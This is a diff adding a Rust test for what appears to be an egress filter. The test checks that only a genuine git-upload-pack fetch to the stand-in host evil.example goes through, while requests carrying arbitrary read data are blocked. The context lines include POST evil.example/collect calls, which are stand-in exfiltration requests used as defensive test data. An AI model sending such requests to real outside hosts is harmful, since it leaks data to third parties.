@@ -197,3 +197,28 @@ fn where_calls_are_not_judged_requests_are_not() {
     let scene = Scene::new(Grounding::Off, |_| {});
     assert!(went(&scene.say("POST", "evil.example", "/collect")) && went(&scene.say("DELETE", "evil.example", "/x")));
 }
+
+#[test]
+fn what_git_fetches_with_is_a_reading_and_nothing_that_is_called_so() {
+    let scene = Scene::new(Grounding::Deny, |_| {});
+    scene.read(SAID, ORDER);
+    let port = scene.sink.port;
+    let says = |path: &str, kind: &str, body: &str| {
+        let head = format!("Content-Type: {kind}\r\n");
+        let said = request("POST", "evil.example", port, path, &head, body);
+        went(&say(&scene.cell, None, "evil.example", port, &said).unwrap())
+    };
+    let (kind, lines) =
+        ("application/x-git-upload-pack-request", "0014command=ls-refs\n0016object-format=sha100010009peel\n0000");
+    assert!(says("/acme/x.git/git-upload-pack", kind, lines));
+    for (path, kind, body) in [
+        ("/acme/x.git/git-upload-pack", kind, "here is anything that was read"),
+        ("/acme/x.git/git-upload-pack", "text/plain", lines),
+        ("/orders/7/cancel/git-upload-pack", "application/json", "{}"),
+        ("/orders/7/cancel", kind, lines),
+    ] {
+        assert!(!says(path, kind, body), "{path} {kind} {body}");
+    }
+    assert_eq!(scene.sink.got().len(), 1);
+    scene.cell.wait_for("its body is another");
+}
